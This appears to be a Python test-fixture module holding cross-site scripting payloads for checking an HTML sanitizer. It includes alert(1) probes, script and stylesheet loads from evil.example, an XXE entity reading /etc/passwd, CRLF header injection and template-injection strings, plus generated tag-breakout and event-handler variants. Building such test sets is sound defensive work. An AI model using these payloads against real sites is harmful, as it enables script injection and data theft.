"""Cross-site scripting payloads: what a hostile reader, author or import file might type.

Each payload is a ``(id, text)`` pair; ids name the trick so a failing test says which one got
through. Most are written out; families (event handlers, URL schemes, closing-tag breakouts)
are built from their parts so that every combination is covered.
"""

ALERT = "alert(1)"

HANDWRITTEN = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-src-protocol-relative", "<script src=//evil.example/x.js></script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-slash-attr", "<script/xss>alert(1)</script>"),
    ("script-newline-attr", "<script\nsrc=//evil.example/x.js></script>"),
    ("script-tab", "<script\t>alert(1)</script\t>"),
    ("script-type-module", '<script type="module">alert(1)</script>'),
    ("script-ld-json-fake", '<script type="application/ld+json">{"x":"</script><script>alert(1)'),
    ("script-in-comment", "<!--<script>alert(1)</script>-->"),
    ("script-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("html-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("html-entities-numeric", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("html-entities-hex", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;"),
    ("url-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("double-url-encoded", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("null-byte-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("null-byte-before-handler", "<img src=x \x00onerror=alert(1)>"),
    ("backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("backtick-template-literal", "<script>alert`1`</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-no-quotes-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-unclosed", "<img src=x onerror=alert(1)"),
    ("img-javascript-src", '<img src="javascript:alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("b-onclick-mixed-case", "<b OnClIcK=alert(1)>click</b>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    ("iframe-src-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    (
        "object-data-html",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    ),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("embed-swf", '<embed src="https://evil.example/x.swf" allowscriptaccess=always>'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-attr-url", '<p style="background-image:url(javascript:alert(1))">x</p>'),
    ("style-breakout", "</style><script>alert(1)</script>"),
    ("a-javascript", '<a href="javascript:alert(1)">click</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    ("a-javascript-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    ("a-javascript-leading-space", '<a href=" javascript:alert(1)">click</a>'),
    ("a-javascript-newline", '<a href="java\nscript:alert(1)">click</a>'),
    (
        "a-javascript-entities-full",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">click</a>'),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("bare-javascript-url", "javascript:alert(1)"),
    ("bare-data-url", "data:text/html,<script>alert(1)</script>"),
    ("attr-break-double", '"><img src=x onerror=alert(1)>'),
    ("attr-break-single", "'><img src=x onerror=alert(1)>"),
    ("attr-break-no-tag", '" onmouseover="alert(1)'),
    ("attr-break-single-no-tag", "' onfocus='alert(1)' autofocus='"),
    ("attr-break-backtick", "`><img src=x onerror=alert(1)>"),
    ("attr-break-script", '"><script>alert(1)</script>'),
    ("attr-break-svg", "'><svg onload=alert(1)>"),
    ("js-string-break", "';alert(1);//"),
    ("js-string-break-double", '";alert(1);//'),
    ("json-break", '"}]</script><script>alert(1)</script>'),
    ("template-django", "{{7*7}}"),
    ("template-django-tag", "{% debug %}"),
    ("template-jinja", "{{ config.items() }}"),
    ("template-angular", "{{constructor.constructor('alert(1)')()}}"),
    ("template-dollar", "${7*7}"),
    ("template-erb", "<%= 7*7 %>"),
    ("comment-breakout", "--><script>alert(1)</script><!--"),
    ("cdata-breakout", "]]><script>alert(1)</script>"),
    ("xml-entity", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;'),
    ("unclosed-angle", "<img src=x onerror=alert(1)//"),
    ("lone-angle-brackets", "<<script>>alert(1)<</script>>"),
    ("crlf-header", "x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>"),
    ("rtl-override", "\u202e<script>alert(1)</script>"),
    ("control-characters", "\x08\x0b<script>alert(1)</script>\x1b"),
    ("zero-width", "<scr\u200bipt>alert(1)</scr\u200bipt>"),
    (
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    ),
]

# Tags a page legitimately holds, so a payload's closing tag is an attempt to break out of it.
BREAKOUT_CONTAINERS = ["textarea", "title", "script", "style", "noscript", "iframe", "option"]

# Event handlers, each on an element that fires it without a click where one exists.
EVENT_HANDLERS = [
    ("onerror", '<img src=x {}="alert(1)">'),
    ("onload", '<svg {}="alert(1)">'),
    ("onfocus", '<input autofocus {}="alert(1)">'),
    ("onblur", '<input autofocus {}="alert(1)">'),
    ("onmouseover", '<span {}="alert(1)">x</span>'),
    ("onanimationstart", '<p style="animation:x" {}="alert(1)">x</p>'),
    ("onpointerenter", '<p {}="alert(1)">x</p>'),
    ("onbeforeprint", '<body {}="alert(1)">'),
]

URL_SCHEMES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
]
URL_CARRIERS = [
    ("a-href", '<a href="{}">x</a>'),
    ("img-src", '<img src="{}">'),
    ("iframe-src", '<iframe src="{}"></iframe>'),
]


def _built():
    for container in BREAKOUT_CONTAINERS:
        yield f"close-{container}", f"</{container}><script>alert(1)</script>"
        yield f"close-{container}-img", f"</{container}><img src=x onerror=alert(1)>"
    for handler, shape in EVENT_HANDLERS:
        yield f"handler-{handler}", shape.format(handler)
        yield f"handler-{handler}-upper", shape.format(handler.upper())
    for scheme_number, scheme in enumerate(URL_SCHEMES):
        for carrier, shape in URL_CARRIERS:
            yield (
                f"url-{carrier}-{scheme.split(':')[0].lower()}-{scheme_number}",
                shape.format(scheme),
            )


PAYLOADS = HANDWRITTEN + list(_built())

_ids = [payload_id for payload_id, _text in PAYLOADS]
assert len(_ids) == len(set(_ids)), "payload ids must be unique"
